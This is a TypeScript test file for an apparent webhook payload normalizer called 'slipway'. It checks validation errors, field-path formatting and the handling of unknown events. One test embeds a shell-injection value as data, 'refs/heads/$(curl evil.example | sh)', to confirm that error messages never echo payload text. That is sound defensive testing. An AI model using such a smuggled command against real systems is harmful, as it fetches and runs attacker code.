// Bad input: payloads that lack what slipway needs, payloads that are not objects, unknown events.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { InputError } from '../../src/errors.js';
import { PayloadError } from '../../src/events/errors.js';
import { ESSENTIAL_EVENTS, NORMALIZERS, isEssentialEvent, normalize } from '../../src/events/normalize.js';
import { formatPath } from '../../src/events/parse.js';

type Json = Record<string, unknown>;

function fixture(name: string): Json {
  return JSON.parse(readFileSync(`test/fixtures/payloads/${name}.json`, 'utf8')) as Json;
}

function expectPayloadError(event: string, payload: unknown, message: string | RegExp): PayloadError {
  let error: unknown;
  try {
    normalize(event, payload);
  } catch (caught) {
    error = caught;
  }
  assert.ok(error instanceof PayloadError, `expected a PayloadError, got ${String(error)}`);
  assert.ok(error instanceof InputError);
  assert.equal(error.code, 'payload_invalid');
  assert.equal(error.status, 400);
  assert.equal(error.event, event);
  if (typeof message === 'string') assert.equal(error.message, message);
  else assert.match(error.message, message);
  return error;
}

test('a push without ref names the field', () => {
  const payload = fixture('push-main');
  delete payload.ref;
  expectPayloadError('push', payload, 'push payload: ref: required');
});

test('a push with a wrong-typed ref says what was expected and what came', () => {
  const payload = { ...fixture('push-main'), ref: 42 };
  expectPayloadError('push', payload, 'push payload: ref: expected a string, got a number');
});

test('a pull request without head sha names the nested path', () => {
  const payload = fixture('pull-request-opened-fork') as { pull_request: { head: Json } };
  delete payload.pull_request.head.sha;
  expectPayloadError('pull_request', payload, 'pull_request payload: pull_request.head.sha: required');
});

test('array elements appear as indices in the path', () => {
  const payload = fixture('pull-request-closed-merged') as { pull_request: { labels: Json[] } };
  payload.pull_request.labels.push({ id: 1, name: null });
  expectPayloadError('pull_request', payload, 'pull_request payload: pull_request.labels[1].name: expected a string, got null');
});

test('a create of an unknown ref type lists the accepted ones', () => {
  const payload = { ...fixture('create-branch'), ref_type: 'repository' };
  expectPayloadError('create', payload, 'create payload: ref_type: expected one of: branch, tag');
});

test('several problems are listed, then counted, and payload text never appears', () => {
  const secret = 'refs/heads/$(curl evil.example | sh)';
  const payload = { ref: secret, repository: { full_name: secret }, before: 1, after: 2, created: 'x' };
  const error = expectPayloadError('push', payload, /^push payload: (.+; ){2}.+ \(and \d+ more\)$/);
  assert.ok(!error.message.includes('evil'), error.message);
  assert.match(error.message, /repository\.id: required/);
});

test('a missing deployment_status names the object', () => {
  const payload = fixture('deployment-status-failure');
  delete payload.deployment_status;
  expectPayloadError('deployment_status', payload, 'deployment_status payload: deployment_status: required');
});

test('a payload that is not an object is refused for every essential event', () => {
  for (const event of ESSENTIAL_EVENTS) {
    expectPayloadError(event, [], `${event} payload: expected an object, got an array`);
    expectPayloadError(event, 'push', `${event} payload: expected an object, got a string`);
    expectPayloadError(event, null, `${event} payload: expected an object, got null`);
    expectPayloadError(event, undefined, `${event} payload: expected an object, got undefined`);
  }
});

test('events slipway does not use return null, whatever the payload', () => {
  for (const event of ['issues', 'star', 'pull_request_review', 'PUSH', '', 'constructor', '__proto__', 'toString']) {
    assert.equal(normalize(event, { action: 'created' }), null, event);
    assert.equal(normalize(event, null), null, event);
    assert.equal(isEssentialEvent(event), false, event);
  }
});

test('actions slipway does not act on still normalize, keeping the action', () => {
  for (const action of ['assigned', 'some_future_action']) {
    const event = normalize('pull_request', { ...fixture('pull-request-opened-fork'), action });
    assert.ok(event?.kind === 'pull_request');
    assert.equal(event.action, action);
  }
});

test('the registry has exactly one normalizer per essential event and cannot be changed', () => {
  assert.deepEqual(Object.keys(NORMALIZERS).sort(), [...ESSENTIAL_EVENTS].sort());
  for (const event of ESSENTIAL_EVENTS) assert.equal(isEssentialEvent(event), true);
  assert.ok(Object.isFrozen(NORMALIZERS));
});

test('field paths are printed with dots and indices', () => {
  assert.equal(formatPath([]), '');
  assert.equal(formatPath(['ref']), 'ref');
  assert.equal(formatPath(['pull_request', 'labels', 0, 'name']), 'pull_request.labels[0].name');
  assert.equal(formatPath([0, 'id']), '[0].id');
});
